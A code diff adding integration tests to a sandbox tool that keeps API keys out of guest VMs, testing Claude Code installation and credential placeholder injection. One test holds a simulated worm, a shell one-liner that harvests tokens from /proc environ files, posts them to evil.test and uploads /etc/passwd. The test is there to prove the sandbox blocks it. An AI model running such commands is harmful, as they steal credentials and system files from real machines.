@@ -31,6 +31,12 @@ namespace {
 namespace fs = std::filesystem;
 World& W() { return World::Get(); }
 
+int Count(const std::string& text, const std::string& what) {
+  int n = 0;
+  for (size_t at = text.find(what); at != std::string::npos; at = text.find(what, at + 1)) ++n;
+  return n;
+}
+
 class NamedHosts : public ::testing::Test {
  protected:
   void SetUp() override {
@@ -44,7 +50,8 @@ class NamedHosts : public ::testing::Test {
                  " link set lo up && ip -n " + srv_ + " link set lo up" + " && ip -n " + ns_ +
                  " addr add 198.51.100.1/24 dev wsv" + id + " && ip -n " + srv_ +
                  " addr add 198.51.100.10/24 dev wsp" + id + " && ip -n " + srv_ +
-                 " addr add 198.51.100.11/24 dev wsp" + id + " && ip -n " + ns_ + " link set wsv" +
+                 " addr add 198.51.100.11/24 dev wsp" + id + " && ip -n " + srv_ +
+                 " addr add 198.51.100.12/24 dev wsp" + id + " && ip -n " + ns_ + " link set wsv" +
                  id + " up && ip -n " + srv_ + " link set wsp" + id + " up"),
               0);
     fs::create_directories("/etc/netns/" + ns_);
@@ -56,6 +63,7 @@ class NamedHosts : public ::testing::Test {
     state_ = mkdtemp(tmpl);
     chmod(state_.c_str(), 0711);
     RunOptions o;
+    o.env = daemon_env_;
     std::vector<std::string> args = {"ip",      "netns",  "exec",        ns_,
                                      W().bin(), "daemon", "--state-dir", state_};
     args.insert(args.end(), daemon_args_.begin(), daemon_args_.end());
@@ -83,6 +91,7 @@ class NamedHosts : public ::testing::Test {
   int daemon_ = -1;
   std::string extra_hosts_;               // more lines for the daemon's /etc/hosts
   std::vector<std::string> daemon_args_;  // more options for `workspace daemon`
+  std::map<std::string, std::string> daemon_env_;
 };
 
 TEST_F(NamedHosts, AllowedNamesAreFetchedAndOthersAreRefusedBeforeAnyConnection) {
@@ -195,9 +204,17 @@ class InterceptedHosts : public NamedHosts {
     char tmpl[] = "/tmp/wsit-ca-XXXXXX";
     ca_dir_ = mkdtemp(tmpl);
     ca_ = std::make_unique<TestCa>(
-        ca_dir_, std::vector<std::string>{"api.anthropic.com", "registry.npmjs.org"});
-    extra_hosts_ = "198.51.100.10 api.anthropic.com\n198.51.100.10 registry.npmjs.org\n";
+        ca_dir_,
+        std::vector<std::string>{"api.anthropic.com", "registry.npmjs.org", "npm.registry.test"});
+    extra_hosts_ =
+        "198.51.100.10 api.anthropic.com\n198.51.100.10 registry.npmjs.org\n198.51.100.12 "
+        "npm.registry.test\n";
     daemon_args_ = {"--upstream-ca", ca_->ca_pem_path()};
+    // The registry endpoints fetch npm packages from npm.registry.test.
+    std::ofstream(ca_dir_ + "/registries.toml")
+        << "ca_file = \"" << ca_->ca_pem_path()
+        << "\"\n[npm]\nupstream = \"https://npm.registry.test/\"\n";
+    daemon_env_["WORKSPACE_REGISTRY_CONFIG"] = ca_dir_ + "/registries.toml";
     NamedHosts::SetUp();
   }
   void TearDown() override {
@@ -320,6 +337,104 @@ TEST_F(InterceptedHosts, ABoundKeyReachesItsHostWhileTheGuestHoldsOnlyAPlacehold
   EXPECT_NE(own.out.find("workspace secret add"), std::string::npos) << own.out;
   EXPECT_EQ(server.got().size(), unbound_before);
   EXPECT_EQ(Cli({"destroy", "-f", "sec"}).code, 0);
+}
+
+// The real Claude Code CLI (the tarballs npm serves, pinned and fetched by
+// scripts/fetch-test-fixtures) installed in the guest with npm through the
+// host's registry endpoint from a registry in the test namespace, then run:
+// its first API request goes through the workspace CA to the server standing
+// in for api.anthropic.com with the real key, while the guest only ever held
+// the placeholder. A worm in the same VM trying every placeholder and its own
+// key gets nothing out.
+TEST_F(InterceptedHosts, TheRealClaudeCodeCliCarriesTheKeyWhileAWormBesideItCarriesNothing) {
+  const std::string fixtures = std::string(WS_BIN_DIR) + "/../fixtures/npm/";
+  const std::string version = "2.1.332";
+  for (const std::string f : {"claude-code-", "claude-code-linux-x64-"}) {
+    ASSERT_TRUE(fs::exists(fixtures + f + version + ".tgz"))
+        << fixtures << f << version << ".tgz is missing: run scripts/fetch-test-fixtures";
+  }
+  TlsHttpServer registry(*ca_, RecordingHttpServer::ListenInNamespace(srv_, "198.51.100.12", 443));
+  const std::string base = "https://npm.registry.test/";
+  AddNpmTarball(registry, "@anthropic-ai/claude-code", version,
+                fixtures + "claude-code-" + version + ".tgz", base,
+                R"("bin":{"claude":"bin/claude.exe"},"scripts":{"postinstall":"node install.cjs"},)"
+                R"("optionalDependencies":{"@anthropic-ai/claude-code-linux-x64":")" +
+                    version + R"("})");
+  AddNpmTarball(registry, "@anthropic-ai/claude-code-linux-x64", version,
+                fixtures + "claude-code-linux-x64-" + version + ".tgz", base,
+                R"("os":["linux"],"cpu":["x64"])");
+  LoopbackTlsServer api(*ca_, RecordingHttpServer::ListenInNamespace(srv_, "198.51.100.10", 443));
+  LoopbackTlsServer evil(*ca_, RecordingHttpServer::ListenInNamespace(srv_, "198.51.100.11", 443));
+
+  const std::string key = "sk-ant-api03-CLAUDECODEKEY-" + std::to_string(getpid());
+  ASSERT_EQ(
+      CliWith({"secret", "add", "anthropic", "--from-env", "WS_TEST_KEY"}, {{"WS_TEST_KEY", key}})
+          .code,
+      0);
+  auto create = Cli({"create", "cc", "--image", "debian", "--no-share", "--secret", "anthropic"});
+  ASSERT_EQ(create.code, 0) << create.err;
+  auto install = Cli({"exec", "-u", "root", "--timeout", "900", "cc", "--", "npm", "install", "-g",
+                      "--no-audit", "--no-fund", "@anthropic-ai/claude-code"});
+  ASSERT_EQ(install.code, 0) << install.out << install.err;
+  auto ver = Cli({"exec", "cc", "--", "claude", "--version"});
+  ASSERT_NE(ver.out.find(version), std::string::npos) << ver.out << ver.err;
+
+  // Claude Code's own first request: the real key reaches the API server.
+  auto claude =
+      Cli({"exec", "--timeout", "300", "--env", "CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC=1", "cc",
+           "--", "claude", "-p", "say pong"});
+  EXPECT_EQ(claude.code, 0) << claude.out << claude.err;
+  EXPECT_NE(claude.out.find(LoopbackTlsServer::kMessagesReply), std::string::npos)
+      << claude.out << claude.err;
+  const std::string got = api.got();
+  const size_t post = got.find("POST /v1/messages?beta=true HTTP/1.1\r\n");
+  ASSERT_NE(post, std::string::npos) << got.substr(0, 2000);
+  const std::string head = got.substr(post, got.find("\r\n\r\n", post) - post);
+  EXPECT_NE(head.find("claude-cli/" + version), std::string::npos) << head;
+  EXPECT_NE(head.find("x-api-key: " + key + "\r\n"), std::string::npos) << head;
+  EXPECT_EQ(got.find("wsph_"), std::string::npos) << "a placeholder reached the API server";
+
+  // The worm: every placeholder it can find, and its own key, to an
+  // attacker's host and to the AI API's upload path.
+  const size_t api_before = api.got().size();
+  auto worm = Cli(
+      {"exec", "cc", "--", "sh", "-c",
+       "keys=$(cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -o 'wsph_[0-9a-f]*' "
+       "| sort -u); echo found $(echo $keys | wc -w); for k in $keys sk-ant-worms-own; do "
+       "curl -s -o /dev/null -w 'evil %{http_connect}\\n' https://evil.test/c -d \"$k\"; done; "
+       "curl -s -w ' files %{http_code}\\n' https://api.anthropic.com/v1/files -H "
+       "'x-api-key: sk-ant-worms-own' -F file=@/etc/passwd; "
+       "curl -s -w ' files %{http_code}\\n' https://api.anthropic.com/v1/files -H "
+       "'authorization: Bearer sk-ant-worms-own' -F file=@/etc/passwd"});
+  EXPECT_NE(worm.out.find("found 1\n"), std::string::npos)
+      << "the worm saw the placeholder: " << worm.out << worm.err;
+  EXPECT_NE(worm.out.find("evil 403\nevil 403\n"), std::string::npos) << worm.out;
+  EXPECT_NE(worm.out.find("not the workspace's placeholder"), std::string::npos) << worm.out;
+  EXPECT_EQ(Count(worm.out, " files 403\n"), 2) << worm.out;
+  EXPECT_EQ(evil.connections(), 0);
+  EXPECT_EQ(api.got().size(), api_before) << "the worm's upload reached the API server";
+  auto audit = Cli({"audit", "cc", "--json"}).out;
+  EXPECT_NE(audit.find("\"rule\":\"foreign credential\""), std::string::npos) << audit;
+  EXPECT_NE(audit.find("\"target\":\"evil.test\",\"port\":443,\"method\":\"CONNECT\""),
+            std::string::npos)
+      << audit;
+  EXPECT_NE(audit.find("\"binding\":\"anthropic\",\"injected\":true"), std::string::npos) << audit;
+  EXPECT_EQ(audit.find(key), std::string::npos);
+
+  // The real key is in no guest file (the session transcript Claude Code
+  // wrote, found by the reply it holds, is the control) and no output.
+  auto files = Cli({"exec", "-u", "root", "--timeout", "300", "cc", "--", "sh", "-c",
+                    "grep -rlaF '" + key.substr(0, 24) +
+                        "' / --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev "
+                        "2>/dev/null; echo key-files-end; grep -rlF '" +
+                        LoopbackTlsServer::kMessagesReply + "' /home | head -1"});
+  EXPECT_EQ(files.out.rfind("key-files-end\n", 0), 0u) << files.out;
+  EXPECT_NE(files.out.find("/.claude/"), std::string::npos) << files.out;
+  for (const auto* r : {&install, &ver, &claude, &worm, &files}) {
+    EXPECT_EQ(r->out.find(key.substr(0, 24)), std::string::npos) << r->out;
+    EXPECT_EQ(r->err.find(key.substr(0, 24)), std::string::npos) << r->err;
+  }
+  EXPECT_EQ(Cli({"destroy", "-f", "cc"}).code, 0);
 }
 
 }  // namespace
